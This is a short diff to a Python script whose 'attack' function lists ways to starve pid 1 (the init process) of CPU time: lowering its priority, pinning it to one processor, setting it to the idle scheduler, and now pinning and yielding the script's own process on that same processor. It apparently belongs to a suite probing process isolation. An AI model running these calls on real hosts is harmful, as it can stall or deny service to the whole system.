@@ -1,4 +1,4 @@
-"""Gives pid 1 the lowest priority and ties it to one processor."""
+"""Gives pid 1 the lowest priority, ties it and itself to one processor, and gives that away, to be kept waiting."""
 
 import os
 import sys
@@ -27,6 +27,8 @@ def attack(key):
             "group": lambda: os.setpriority(os.PRIO_PGRP, 1, 19),
             "user": lambda: os.setpriority(os.PRIO_USER, 0, 19),
             "affinity": lambda: os.sched_setaffinity(1, {0}),
+            "own affinity": lambda: os.sched_setaffinity(0, {0}),
+            "yield": os.sched_yield,
             "scheduler": lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
         }
     )
